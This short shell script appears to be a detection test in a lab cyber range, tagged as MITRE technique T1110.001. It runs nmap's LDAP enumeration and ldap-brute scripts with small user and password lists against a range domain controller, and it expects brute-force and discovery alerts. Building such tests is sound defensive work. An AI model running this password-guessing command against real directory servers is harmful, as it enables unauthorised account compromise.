# SPDX-License-Identifier: Apache-2.0
# what: the directory asked, and passwords guessed at it, by nmap
# technique: T1110.001
# from: ws1
# to: dc1
# account: -
# outcome: success
# must: alert brute,discover
. "$RANGE_HERE/item.sh"
printf 'root\nadmin\nop\n' >"$HOME/u"
{ passwords 14; echo "$UNIX_PASSWORD"; } >"$HOME/p"
says 'ldap' timeout 60 nmap -n -Pn -p 389 --script ldap-rootdse,ldap-search,ldap-brute --script-args "userdb=$HOME/u,passdb=$HOME/p,brute.firstonly=1,brute.emptypass=false,unpwdb.timelimit=20s,ldap.base='cn=users,dc=corp,dc=range,dc=test'" $dc1
